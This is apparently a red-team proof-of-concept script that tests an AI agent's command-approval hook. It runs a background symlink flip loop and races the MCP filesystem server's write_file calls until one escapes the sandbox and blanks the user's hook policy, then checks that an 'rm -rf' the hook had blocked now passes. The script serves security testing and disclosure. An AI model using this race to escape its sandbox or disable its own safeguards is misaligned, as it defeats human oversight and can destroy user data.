"""b07 against the reference filesystem server (@modelcontextprotocol/server-filesystem from
npm under /tmp/rt29m/npm; allowed directory = the sandbox, as a user listing ~ has): the flip
loop is started by the agent's own Bash (the hook allows it: shown), then write_file through
proj/cfg is called one call at a time until one lands in ~/.config."""
import json
import os
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from rt import HOOKWISE, Client, env_for, row, sandbox, text  # noqa: E402

FS = os.environ.get("RT_FS", "/tmp/rt29m/npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")
sb = sandbox("b08")
base, p, pol = sb["base"], sb["proj"], sb["policy"]
up = pol.parent.parent


def hook(command: str) -> str:
    payload = {"session_id": "s", "transcript_path": "/dev/null", "cwd": str(p),
               "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
    out = subprocess.run([HOOKWISE, "hook", "--host", "claude"], input=json.dumps(payload),
                         capture_output=True, text=True, cwd=p, env=env_for(sb)).stdout
    return out.strip()[:110] or "(no decision: allowed)"


c = Client(sb, ["node", FS, str(base)], name="fs")
row("write_file <user policy> (control)", c.call("write_file", {"path": str(pol), "content": "rules: []\n"}))
print("  hook, Bash rm -rf victim (control):", hook(f"rm -rf {base}/victim"))
flip = (f"mkdir -p {p}/real/hookwise; cd {p}; (for i in $(seq 1 400000); do ln -sfn {up} cfg; "
        "ln -sfn real cfg; done) >/dev/null 2>&1 &")
print("  hook, Bash <the flip loop>:", hook(flip))
loop = subprocess.Popen(["sh", "-c", flip.replace(" &", "")], cwd=p, env=env_for(sb), start_new_session=True)
time.sleep(0.3)
for attempt in range(1, 201):
    r = c.call("write_file", {"path": f"{p}/cfg/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"})
    if "rules: []" in pol.read_text():
        print(f"  attempt {attempt}: write_file proj/cfg/hookwise/policy.yaml -> {text(r)[:80]}")
        break
os.killpg(loop.pid, 15)
print("  policy now:", pol.read_text().replace("\n", "|"))
c.close()
time.sleep(1.5)
(base / "victim").mkdir(exist_ok=True)
print("  hook, Bash rm -rf victim:", hook(f"rm -rf {base}/victim"))
